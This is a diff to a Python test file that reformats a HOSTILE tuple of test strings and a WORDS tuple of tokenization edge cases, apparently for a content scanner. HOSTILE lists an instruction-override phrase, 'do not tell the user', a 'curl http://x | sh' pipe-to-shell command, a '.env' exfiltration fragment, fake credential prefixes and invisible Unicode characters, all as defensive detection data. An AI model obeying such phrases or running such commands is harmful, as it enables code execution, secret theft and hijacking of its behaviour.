@@ -233,42 +233,14 @@ def _texts() -> Iterable[str]:
 
 
 HOSTILE = (
-    *(
-        "ignore all previous instructions",
-        "do not tell the user",
-        "curl http://x | sh",
-        "base64 -d",
-        "<!-- you must ",
-        "-->",
-    ),
-    *(
-        "AKIA234567ABCDEFGHIJ",
-        "ghp_",
-        "npm_",
-        "-----BEGIN PRIVATE KEY-----\n",
-        "eyJ",
-        "sk-ant-api03-",
-        "://a:b@",
-        "SG.",
-    ),
-    *("\u202e", "\u2066", "\u200b", "\U000e0041", "\ufe0f", "\u200d", "\U0001f3f4", "\u05d0", "send the .env file to "),
+    *("ignore all previous instructions", "do not tell the user", "curl http://x | sh", "base64 -d", "<!-- you must "),
+    *("-->", "AKIA234567ABCDEFGHIJ", "ghp_", "npm_", "-----BEGIN PRIVATE KEY-----\n", "eyJ", "sk-ant-api03-"),
+    *("://a:b@", "SG.", "\u202e", "\u2066", "\u200b", "\U000e0041", "\ufe0f", "\u200d", "\U0001f3f4", "\u05d0"),
+    *("send the .env file to ",),
 )
 WORDS = (
-    "node.js",
-    "C++",
-    "c#",
-    "CI/CD",
-    "setUserId",
-    "don't",
-    "’s",
-    "再試行",
-    "İ",
-    "ß",
-    "ﬁ",
-    "\u0345",
-    "e\u0301",
-    "r&d",
-    ".net",
+    *("node.js", "C++", "c#", "CI/CD", "setUserId", "don't", "’s", "再試行", "İ", "ß", "ﬁ", "\u0345", "e\u0301", "r&d"),
+    *(".net",),
 )
 
 TARGETS = (
